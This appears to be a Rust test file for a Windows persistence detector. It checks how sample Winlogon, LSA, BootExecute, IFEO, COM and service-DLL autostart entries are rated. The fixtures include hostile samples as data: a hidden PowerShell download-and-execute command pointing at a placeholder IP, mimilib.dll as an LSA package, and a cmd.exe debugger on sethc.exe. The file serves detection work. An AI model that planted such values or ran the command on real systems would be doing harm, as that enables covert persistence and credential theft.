use crate::assessment::{Action, Severity};
use crate::test_support::records_of;
use evidence::{AutostartEntry, AutostartKind, RecordData, Service};
use intel::Intel;

const WINLOGON: &str = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon";
const IFEO: &str = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options";

fn entry(category: &str, location: &str, name: &str, launch: &str) -> AutostartEntry {
    AutostartEntry {
        kind: Some(AutostartKind::Other),
        category: category.into(),
        location: location.into(),
        name: name.into(),
        enabled: Some(true),
        launch_string: Some(launch.into()),
        ..AutostartEntry::default()
    }
}

fn judged(record: RecordData) -> Option<(Severity, Action, Vec<String>)> {
    let assessment = crate::assess(&records_of([record]), Intel::builtin());
    assert!(assessment.findings.len() < 2, "{:#?}", assessment.findings);
    let finding = assessment.findings.into_iter().next()?;
    Some((finding.severity, finding.action, finding.attack))
}

fn weight(entry: AutostartEntry) -> Option<(Severity, Action)> {
    judged(RecordData::Autostart(entry)).map(|(severity, action, _)| (severity, action))
}

#[test]
fn values_of_winlogon_hold_what_windows_put_there() {
    let at = |name: &str, launch: &str| weight(entry("Logon", WINLOGON, name, launch));
    assert_eq!(at("Userinit", r"C:\Windows\system32\userinit.exe,"), None);
    assert_eq!(at("Shell", "explorer.exe"), None);
    assert_eq!(
        at("Userinit", r"C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe"),
        Some((Severity::High, Action::Restore))
    );
    assert_eq!(
        at("Userinit", r"C:\Windows\system32\userinit.exe,C:\Program Files\Citrix\cmstart.exe"),
        Some((Severity::Medium, Action::Review))
    );
    assert_eq!(at("Shell", r"C:\Kiosk\shop.exe"), Some((Severity::Medium, Action::Review)));
    // Autoruns names each program of the value.
    let listed = |launch: &str| weight(entry("Logon", &format!(r"{WINLOGON}\Shell"), launch, launch));
    assert_eq!(listed("explorer.exe"), None);
    assert_eq!(listed(r"C:\ProgramData\s.exe"), Some((Severity::High, Action::Restore)));
}

#[test]
fn values_that_start_code_with_windows_or_the_logon() {
    let at = |key: &str, name: &str, launch: &str| weight(entry("LSA Providers", key, name, launch));
    let set = r"HKLM\SYSTEM\CurrentControlSet";
    let boot = format!(r"{set}\Control\Session Manager");
    let lsa = format!(r"{set}\Control\Lsa");
    assert_eq!(at(&boot, "BootExecute", "autocheck autochk *"), None);
    assert_eq!(
        at(&boot, "BootExecute", "autocheck autochk *\nC:\\ProgramData\\boot.exe"),
        Some((Severity::High, Action::Restore))
    );
    assert_eq!(at(&lsa, "Security Packages", "kerberos\nmsv1_0"), None);
    assert_eq!(
        at(&lsa, "Security Packages", "kerberos\nC:\\ProgramData\\mimilib.dll"),
        Some((Severity::High, Action::Restore))
    );
    let filter = at(&lsa, "Notification Packages", "scecli\nevilfilter");
    assert_eq!(filter, Some((Severity::Medium, Action::Review)));
    let command = r"HKLM\SOFTWARE\Classes\exefile\shell\open\command";
    assert_eq!(at(command, "exefile", "\"%1\" %*"), None);
    assert_eq!(
        at(command, "exefile", "C:\\ProgramData\\hook.exe \"%1\" %*"),
        Some((Severity::High, Action::Restore))
    );
    let users = r"HKCU\Software\Classes\exefile\shell\open\command";
    assert_eq!(at(users, "exefile", r"C:\Tools\x.exe"), Some((Severity::Medium, Action::Review)));
}

#[test]
fn a_script_in_a_value_of_windows_is_put_back_not_removed() {
    let command = "powershell -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\"";
    let found = weight(entry("Logon", WINLOGON, "Shell", &format!("explorer.exe,{command}")));
    assert_eq!(found, Some((Severity::High, Action::Restore)));
}

#[test]
fn a_debugger_of_the_logon_screen_is_a_door() {
    let at = |image: &str, command: &str| {
        judged(RecordData::Autostart(entry("Image Hijacks", &format!(r"{IFEO}\{image}"), image, command)))
    };
    let door = at("sethc.exe", r"C:\Windows\System32\cmd.exe").unwrap();
    assert_eq!((door.0, door.1, door.2), (Severity::High, Action::Remove, vec!["T1546.008".to_owned()]));
    assert_eq!(at("taskmgr.exe", r#""C:\Tools\PROCEXP64.EXE""#), None);
    assert_eq!(at("Your Image File Name Here without a path", "ntsd -d"), None);
    let other = at("notepad.exe", r"C:\Tools\dbg.exe").unwrap();
    assert_eq!((other.0, other.1), (Severity::Medium, Action::Review));
    let hidden = at("msmpeng.exe", r"C:\ProgramData\x.exe").unwrap();
    assert_eq!(hidden.0, Severity::High);
}

#[test]
fn classes_of_a_user_that_malware_is_known_for() {
    let at = |id: &str, library: &str| {
        let location = format!(r"HKCU\Software\Classes\CLSID\{id}\InprocServer32");
        let mut entry = entry("COM", &location, id, library);
        entry.profile = Some("me".into());
        weight(entry)
    };
    let known = "{BCDE0395-E52F-467C-8E3D-C4579291692E}";
    assert_eq!(at(known, r"C:\Users\me\AppData\Roaming\x.dll"), Some((Severity::High, Action::Review)));
    let own = "{11111111-2222-3333-4444-555555555555}";
    assert_eq!(at(own, r"C:\Users\me\AppData\Local\Microsoft\OneDrive\x.dll"), None);
    assert_eq!(at(own, r"C:\Windows\System32\scrobj.dll"), Some((Severity::Medium, Action::Review)));
}

#[test]
fn libraries_of_windows_services() {
    let at = |name: &str, library: &str| {
        let service = Service {
            name: name.into(),
            service_type: Some(0x20),
            image_path: Some(r"%SystemRoot%\system32\svchost.exe -k netsvcs".into()),
            service_dll: Some(library.into()),
            ..Service::default()
        };
        judged(RecordData::Service(service)).map(|(severity, action, _)| (severity, action))
    };
    assert_eq!(at("Schedule", r"%systemroot%\system32\schedsvc.dll"), None);
    assert_eq!(at("Schedule", r"C:\Windows\System32\evil.dll"), Some((Severity::High, Action::Restore)));
    assert_eq!(
        at("TermService", r"%ProgramFiles%\RDP Wrapper\rdpwrap.dll"),
        Some((Severity::Medium, Action::Review))
    );
    assert_eq!(
        at("TermService", r"C:\Program Files\RDP Wrapper\rdpwrap.dll"),
        Some((Severity::Medium, Action::Review))
    );
    assert_eq!(at("SomeVendor", r"C:\Vendor\x.dll"), None);
}
